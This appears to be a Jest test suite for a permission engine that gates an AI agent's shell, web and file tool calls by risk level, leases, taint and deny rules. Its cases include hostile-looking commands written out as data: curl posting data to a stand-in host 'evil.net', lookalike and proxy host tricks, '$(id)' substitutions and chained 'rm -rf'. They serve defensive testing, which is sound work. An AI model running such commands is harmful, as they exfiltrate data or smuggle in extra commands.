import { describe, expect, test } from '@jest/globals'
import {
  classify,
  decide,
  offerFor,
  type Classification,
  type Decision,
  type Level,
  type PolicyRule,
  type Situation,
} from './index.ts'
import { aLease, context, here } from './policies/testing/situations.ts'

function of(tool: string, input: Record<string, unknown>): Classification {
  return classify({ tool, input }, { ...context, device: 'pc' })
}

const calls: Record<Level, Classification> = {
  green: of('bash', { command: 'ls' }),
  yellow: of('bash', { command: 'npm test' }),
  computer: of('computer', { action: 'left_click' }),
  red: of('bash', { command: 'rm -rf build' }),
}
const run = (command: string) => of('bash', { command })
const taint = ['example.com']
const rule = (scope: Omit<PolicyRule, 'id' | 'effect'>, effect: PolicyRule['effect'] = 'allow'): PolicyRule => ({
  id: 'rule',
  effect,
  ...scope,
})
const verdict = (call: Classification, situation: Partial<Situation>) =>
  decide(call, { supervision: 'supervised', place: here, ...situation })
const decision = (call: Classification, situation: Partial<Situation>) => verdict(call, situation).decision

describe('by level and mode', () => {
  test.each<[Level, Partial<Situation>, Decision]>([
    ['green', {}, 'run'],
    ['green', { taint }, 'run'],
    ['green', { sandboxed: false, lease: aLease }, 'ask'],
    ['yellow', {}, 'ask'],
    ['yellow', { supervision: 'semi_auto' }, 'run'],
    ['yellow', { supervision: 'semi_auto', taint }, 'ask'],
    ['yellow', { supervision: 'semi_auto', sandboxed: false }, 'ask'],
    ['yellow', { lease: aLease }, 'run'],
    ['yellow', { lease: aLease, sandboxed: false }, 'ask'],
    ['computer', { supervision: 'semi_auto' }, 'ask'],
    ['computer', { lease: aLease }, 'ask'],
    ['computer', { lease: { ...aLease, devices: ['pc'] } }, 'run'],
    ['red', {}, 'ask_pin'],
    ['red', { supervision: 'semi_auto' }, 'ask_pin'],
    ['red', { lease: aLease }, 'ask_pin'],
    ['red', { lease: { ...aLease, red: true } }, 'run'],
    ['red', { lease: { ...aLease, red: true }, taint }, 'ask_pin'],
    ['red', { lease: { ...aLease, red: true }, sandboxed: false }, 'ask_pin'],
    ['green', { attended: false }, 'run'],
    ['yellow', { attended: false }, 'refuse'],
    ['yellow', { attended: false, supervision: 'semi_auto' }, 'refuse'],
    ['yellow', { attended: false, lease: aLease }, 'refuse'],
    ['red', { attended: false, lease: { ...aLease, red: true } }, 'refuse'],
  ])('%s with %j is answered by %s', (level, situation, expected) => {
    expect(decision(calls[level], situation)).toBe(expected)
  })

  test('a command that is to reach other computers asks, whatever rule there is; a lease must name them', () => {
    const reaching = of('bash', { command: 'npm test', hosts: ['registry.example'] })
    expect([reaching.level, reaching.subject.hosts]).toEqual(['yellow', ['registry.example']])
    expect(of('bash', { command: 'ls', hosts: ['registry.example'] }).level).toBe('yellow')
    expect(decision(reaching, { supervision: 'semi_auto', rules: [rule({ program: 'npm', verb: 'test' })] })).toBe(
      'ask',
    )
    expect(decision(reaching, { lease: { ...aLease, hosts: [] } })).toBe('ask')
    expect(decision(reaching, { lease: { ...aLease, hosts: ['registry.example'] } })).toBe('run')
  })

  test('what leads into the own network asks in semi-automatic, too, so that the person can let it through', () => {
    for (const tool of ['web_fetch', 'browser_navigate']) {
      const url = 'http://192.168.1.5/'
      expect(decision(of(tool, { url }), { supervision: 'semi_auto' })).toBe('ask')
      expect(
        decision(of(tool, { url }), { supervision: 'semi_auto', rules: [rule({ tool, host: '192.168.1.5' })] }),
      ).toBe('run')
    }
  })

  test.each<Partial<Situation>>([
    {},
    { supervision: 'semi_auto' },
    { supervision: 'semi_auto', rules: [rule({ program: 'ls' }), rule({ tool: 'bash' }), rule({})] },
    { lease: { ...aLease, tools: ['*'], hosts: ['*'], red: true } },
    { lease: { ...aLease, tools: ['bash'], hosts: ['example.com'], red: true }, taint },
    { lease: { ...aLease, red: true }, sandboxed: true, supervision: 'semi_auto' },
    { sandboxed: false },
  ])('leaving the sandbox asks for the PIN, with %j', (situation) => {
    const leaving = of('bash', { command: 'ls', outside_sandbox: true, outside_reason: 'no reason' })
    expect(leaving).toMatchObject({ level: 'red', rule: 'outside_sandbox' })
    expect(decision(leaving, situation)).toBe('ask_pin')
    expect(offerFor(leaving, { place: here, rules: [], tainted: false })).toEqual([])
  })

  test('leaving the sandbox is refused by a rule that denies, and where nobody is there', () => {
    const leaving = of('bash', { command: 'docker ps', outside_sandbox: true })
    expect(decision(leaving, { rules: [rule({ program: 'docker' }, 'deny')] })).toBe('refuse')
    expect(decision(leaving, { attended: false, lease: { ...aLease, tools: ['*'], red: true } })).toBe('refuse')
  })

  test.each([true, 'false', '', 0, null, {}])('whatever is no plain no leaves the sandbox: %j', (value) => {
    expect(of('bash', { command: 'ls', outside_sandbox: value }).level).toBe('red')
    expect(of('bash', { command: 'ls', outside_sandbox: false }).level).toBe('green')
  })

  test('it is told why', () => {
    expect(verdict(calls.yellow, { taint })).toMatchObject({
      reasons: [{ code: 'tainted', text: expect.stringContaining('has read example.com'), fragment: 'example.com' }],
    })
    expect(verdict(calls.yellow, { sandboxed: false })).toMatchObject({ reasons: [{ code: 'no_sandbox' }] })
    expect(verdict(calls.yellow, { rules: [rule({ program: 'npm' }, 'deny')] })).toMatchObject({
      decision: 'refuse',
      reasons: [{ code: 'denied_by_rule', fragment: 'npm' }],
    })
    expect(verdict(calls.yellow, { lease: aLease })).toEqual({
      decision: 'run',
      ground: { by: 'lease', id: aLease.id },
      reaches: [],
      opens: [],
    })
  })
})

describe('a lease', () => {
  const page = of('web_fetch', { url: 'https://example.com/a' })

  test.each<[string, Partial<Situation>, Decision]>([
    ['names the tool', { lease: aLease }, 'run'],
    ['names another tool', { lease: { ...aLease, tools: ['write_file'] } }, 'ask'],
    ['names all tools', { lease: { ...aLease, tools: ['*'] } }, 'run'],
    ['names all tools, and strangers were read', { lease: { ...aLease, tools: ['*'] }, taint }, 'ask'],
    ['names the tool, and strangers were read', { lease: aLease, taint }, 'run'],
  ])('that %s', (_, situation, expected) => {
    expect(decision(calls.yellow, situation)).toBe(expected)
  })

  test.each<[string, readonly string[], readonly string[], Decision]>([
    ['curl https://api.example.com/x', ['api.example.com'], [], 'run'],
    ['curl https://api.example.com/x', ['*.example.com'], [], 'run'],
    ['curl https://api.example.com/x', [], [], 'ask'],
    ['curl https://api.example.com/x', ['*'], [], 'run'],
    ['curl https://api.example.com/x', ['*'], taint, 'ask'],
    ['curl https://api.example.com/x', ['api.example.com'], taint, 'run'],
    ['curl https://api.example.com.evil.net/x', ['api.example.com', '*.example.com'], taint, 'ask'],
    ['curl https://api.example.com/x https://evil.net', ['api.example.com'], taint, 'ask'],
    ['curl -x http://evil.net https://api.example.com/x', ['api.example.com'], taint, 'ask'],
    ['git push', ['api.example.com'], [], 'run'],
    ['git push', ['api.example.com'], taint, 'ask'],
  ])('%s with the hosts %j, after %j', (command, hosts, read, expected) => {
    expect(decision(run(command), { lease: { ...aLease, hosts }, taint: read })).toBe(expected)
  })

  test('after strangers a page is read without a question where its address was given or its host is named', () => {
    expect(decision(page, {})).toBe('run')
    expect(decision(page, { taint })).toBe('ask')
    expect(decision(page, { taint, knownAddress: true })).toBe('run')
    expect(decision(page, { taint, lease: { ...aLease, tools: ['web_fetch'], hosts: ['example.com'] } })).toBe('run')
    expect(decision(page, { taint, attended: false })).toBe('refuse')
  })
})

test('a run opens in the own network only the hosts that were named', () => {
  const curl = of('bash', { command: 'curl http://nas.lan/ http://example.com/' })
  const byLease = (hosts: string[]) => verdict(curl, { lease: { ...aLease, hosts } })
  expect(byLease(['*'])).toMatchObject({ decision: 'run', opens: [] })
  expect(byLease(['*', 'nas.lan'])).toMatchObject({ decision: 'run', opens: ['nas.lan'] })
  const get = of('bash', { command: 'curl http://nas.lan/' })
  const byRule = (scope: object) => verdict(get, { rules: [rule({ program: 'curl', verb: '', ...scope })] })
  expect(byRule({})).toMatchObject({ decision: 'ask' })
  expect(byRule({ host: 'nas.lan' })).toMatchObject({ decision: 'run', opens: ['nas.lan'] })
  expect(byRule({ host: '*' })).toMatchObject({ decision: 'run', reaches: ['nas.lan'], opens: [] })
})

test.each([
  'echo https://evil.example && npm test',
  'npm test https://evil.example',
  'npm test -- --to=https://evil.example',
  'grep user@evil.example:x notes.txt; npm test',
])('mentioning a host does not let a program reach it that a rule allows: %s', (command) => {
  const rules = [rule({ program: 'npm', verb: 'test' })]
  expect(verdict(run(command), { rules })).toMatchObject({ decision: 'run', reaches: [], opens: [] })
})

describe('a page in the own network', () => {
  const router = of('web_fetch', { url: 'http://192.168.1.1/' })
  const disguised = classify(
    { tool: 'browser_navigate', input: { url: 'https://router.example.net/' } },
    { ...context, homeAddresses: ['192.168.1.1'] },
  )

  test.each([
    [router, '192.168.1.1'],
    [disguised, 'router.example.net'],
  ])('is opened by a rule or a lease that names its host, and by no other', (page, host) => {
    const { tool } = page.subject
    const byLease = (hosts: string[]) => decision(page, { lease: { ...aLease, tools: ['*'], hosts } })
    expect(byLease(['*'])).toBe('ask')
    expect(byLease([host])).toBe('run')
    expect(decision(page, { rules: [rule({ tool })] })).toBe('ask')
    expect(decision(page, { rules: [rule({ tool, host: '*' })] })).toBe('ask')
    expect(decision(page, { rules: [rule({ tool, host })] })).toBe('run')
  })
})

describe('rules', () => {
  const npmTest = rule({ program: 'npm', verb: 'test' })

  test('deny beats ask beats allow', () => {
    const all = [
      npmTest,
      { ...npmTest, id: 'ask', effect: 'ask' as const },
      { ...npmTest, id: 'deny', effect: 'deny' as const },
    ]
    expect(decision(calls.yellow, { rules: all })).toBe('refuse')
    expect(decision(calls.yellow, { rules: all.slice(0, 2) })).toBe('ask')
    expect(verdict(calls.yellow, { rules: all.slice(0, 1) })).toMatchObject({
      decision: 'run',
      ground: { by: 'rule', id: 'rule' },
    })
  })

  test('that deny or ask a program for a host count, too, where the line does not name the host', () => {
    const push = of('bash', { command: 'git push', hosts: ['evil.net'] })
    const found = classify({ tool: 'bash', input: { command: 'git push' } }, { ...context, reachedHosts: ['evil.net'] })
    const denied = [rule({ program: 'git', verb: 'push', host: 'evil.net' }, 'deny')]
    expect(decision(push, { rules: denied })).toBe('refuse')
    expect(decision(found, { rules: denied })).toBe('refuse')
    expect(decision(of('bash', { command: 'git push', hosts: ['good.net'] }), { rules: denied })).toBe('ask')
  })

  test('one that denies stands above a lease, and one that asks does, too', () => {
    expect(decision(calls.yellow, { lease: aLease, rules: [rule({ program: 'npm' }, 'deny')] })).toBe('refuse')
    expect(decision(calls.yellow, { lease: aLease, rules: [rule({ program: 'npm' }, 'ask')] })).toBe('ask')
    expect(decision(calls.red, { lease: { ...aLease, red: true }, rules: [rule({ program: 'rm' }, 'ask')] })).toBe(
      'ask_pin',
    )
  })

  test.each<[string, PolicyRule[], Decision]>([
    ['npm test', [npmTest], 'run'],
    ['npm test -- --watch', [npmTest], 'run'],
    ['npm publish', [rule({ program: 'npm' })], 'ask_pin'],
    ['npm install x', [npmTest], 'ask'],
    ['npm run build', [rule({ program: 'npm', verb: 'run build' })], 'run'],
    ['npm run evil', [rule({ program: 'npm', verb: 'run build' })], 'ask'],
    ['npm --prefix test exec evil', [npmTest], 'ask'],
    ['npm exec evil', [rule({ program: 'npm' })], 'ask'],
    ['npm test && npm install x', [npmTest], 'ask'],
    ['npm test && npm install x', [npmTest, { ...npmTest, id: 'b', verb: 'install' }], 'run'],
    ['cd src && npm test 2>&1 | tail -5', [npmTest], 'run'],
    ['cd /other && npm test', [npmTest], 'ask'],
    ['timeout 60 npm test', [npmTest], 'run'],
    ['CI=true npm test', [npmTest], 'ask'],
    ['npm test > out.txt', [npmTest], 'ask'],
    ['npm test $(id)', [npmTest], 'ask'],
    ['npm test "$(cat x)"', [npmTest], 'ask'],
    ['npm test; rm -rf x', [npmTest, rule({ program: 'rm' })], 'ask_pin'],
    ['./npm test', [npmTest], 'ask'],
    ['bash -c "npm test"', [npmTest], 'ask'],
    ['bash x.sh', [rule({ program: 'bash' })], 'ask'],
    ['node x.js', [rule({ program: 'node' })], 'ask'],
    ['python3 x.py', [rule({ program: 'python' })], 'ask'],
    ['npx x', [rule({ program: 'npx' })], 'ask'],
    ['xargs npm test', [rule({ program: 'xargs' }), npmTest], 'ask'],
    ['find . -name x -exec npm test {} +', [rule({ program: 'find' }), npmTest], 'ask'],
    ['cp a b', [rule({ program: 'cp', verb: '' })], 'run'],
    ['cp a /home/user/other/b', [rule({ program: 'cp', verb: '' })], 'ask'],
    ['cp a ../b', [rule({ program: 'cp', verb: '' })], 'ask'],
    ['cp a ../b', [rule({ program: 'cp', path: '/home/user' })], 'run'],
    ['cp -t/home/user/other a', [rule({ program: 'cp', verb: '' })], 'ask'],
    ['curl https://a.example.com', [rule({ program: 'curl', host: 'a.example.com' })], 'run'],
    ['curl https://b.example.com', [rule({ program: 'curl', host: 'a.example.com' })], 'ask'],
    ['curl https://a.example.com https://b.example.com', [rule({ program: 'curl', host: 'a.example.com' })], 'ask'],
    ['# nothing', [rule({ program: 'npm' }), rule({ tool: 'bash' })], 'ask'],
    ['ls', [rule({ program: 'npm' })], 'run'],
    ['npm test', [rule({ tool: 'bash' })], 'ask'],
    ['npm test', [rule({})], 'ask'],
    ['npm test', [{ ...npmTest, folder: '/home/user' }], 'run'],
    ['npm test', [{ ...npmTest, folder: '/home/user/project-two' }], 'ask'],
    ['npm test', [{ ...npmTest, agentKey: 'other' }], 'ask'],
    ['npm test', [{ ...npmTest, device: 'other' }], 'ask'],
  ])('that allow: %s with %j', (command, rules, expected) => {
    expect(decision(run(command), { rules })).toBe(expected)
  })

  test.each<[string, PolicyRule, Decision]>([
    ['git push', rule({ program: 'git', verb: 'push' }, 'deny'), 'refuse'],
    ['git status && git push', rule({ program: 'git', verb: 'push' }, 'deny'), 'refuse'],
    ['env A=1 git push', rule({ program: 'git', verb: 'push' }, 'deny'), 'refuse'],
    ['git -C x push', rule({ program: 'git', verb: 'push' }, 'deny'), 'refuse'],
    ['bash -c "git push"', rule({ program: 'git', verb: 'push' }, 'deny'), 'refuse'],
    ['echo "$(git push)"', rule({ program: 'git', verb: 'push' }, 'deny'), 'refuse'],
    ['git pull', rule({ program: 'git', verb: 'push' }, 'deny'), 'run'],
    ['cat taxes/a.txt', rule({ path: '/home/user/project/taxes' }, 'deny'), 'refuse'],
    ['cat taxes-old/a.txt', rule({ path: '/home/user/project/taxes' }, 'deny'), 'run'],
    ['cat tax*/a.txt', rule({ path: '/home/user/project/taxes' }, 'deny'), 'refuse'],
    ['grep -r x', rule({ path: '/home/user/project/taxes' }, 'deny'), 'refuse'],
    ['echo x > taxes/a.txt', rule({ path: '/home/user/project/taxes' }, 'deny'), 'refuse'],
    ['curl --data x https://evil.net', rule({ host: 'evil.net' }, 'deny'), 'refuse'],
    ['curl --url=https://www.EVIL.net./x', rule({ host: '*.evil.net' }, 'deny'), 'refuse'],
    ['ls', rule({ program: 'ls' }, 'ask'), 'ask'],
    ['ls', rule({ tool: 'bash' }, 'deny'), 'refuse'],
  ])('that deny or ask: %s with %j', (command, each, expected) => {
    expect(decision(run(command), { supervision: 'semi_auto', rules: [each] })).toBe(expected)
  })

  test('tools without a shell are allowed by name, inside the folder unless a path is given', () => {
    const write = (path: string) => of('write_file', { path, content: '' })
    expect(decision(write('a.txt'), { rules: [rule({ tool: 'write_file' })] })).toBe('run')
    expect(decision(write('../a.txt'), { rules: [rule({ tool: 'write_file' })] })).toBe('ask')
    expect(decision(write('../a.txt'), { rules: [rule({ tool: 'write_file', path: '/home/user/a.txt' })] })).toBe('run')
    expect(decision(write('~/.bashrc'), { rules: [rule({ tool: 'write_file', path: '/home/user' })] })).toBe('ask_pin')
    expect(decision(of('mcp__mail__send', {}), { rules: [rule({ tool: 'mcp__mail__*' })] })).toBe('run')
    expect(decision(of('mcp__mailer__send', {}), { rules: [rule({ tool: 'mcp__mail__*' })] })).toBe('ask')
  })

  test('none allows anything once strangers were read, in no mode', () => {
    expect(decision(calls.yellow, { rules: [npmTest], taint })).toBe('ask')
    expect(decision(calls.yellow, { supervision: 'semi_auto', rules: [npmTest], taint })).toBe('ask')
  })
})
